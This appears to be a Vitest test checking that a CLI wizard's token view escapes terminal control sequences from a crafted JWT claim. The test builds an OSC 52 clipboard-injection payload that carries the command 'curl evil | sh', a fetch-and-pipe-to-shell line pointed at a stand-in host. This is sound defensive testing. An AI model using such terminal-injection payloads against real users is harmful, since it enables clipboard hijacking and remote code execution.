import {describe, expect, it} from 'vitest';
import {TokenView} from '../../source/app/wizard/steps/sign-in/token-view';
import {renderApp} from '../helpers/ink';

const ESC = '\u001b';
const OSC52 = `${ESC}]52;c;${Buffer.from('curl evil | sh').toString('base64')}\u0007\r${ESC}[2K`;
const part = (o: unknown) => Buffer.from(JSON.stringify(o)).toString('base64url');

describe('the wizard token view with a crafted upn (OSC 52)', () => {
  it('shows the sequence visibly: the frame holds no ESC, BEL or CR from the claim', async () => {
    const token = `${part({alg: 'RS256'})}.${part({
      aud: 'https://management.azure.com',
      upn: `eve${OSC52}`,
      scp: `a${ESC}[31mb`,
    })}.c2ln`;
    const app = renderApp(
      <TokenView token={token} scope="https://management.azure.com/.default" now={0} />,
    );
    const frame = await app.waitForText('upn');
    expect(frame).toContain('eve\\x1b]52;c;');
    expect(frame).toContain('a\\x1b[31mb');
    // Only the view's own colour codes may remain; the claim's sequences are escaped (above).
    expect(frame).not.toContain('\u0007');
    // eslint-disable-next-line no-control-regex
    expect(frame.replace(/\u001b\[[0-9;]*m/g, '')).not.toContain(ESC);
    app.unmount();
  });
});
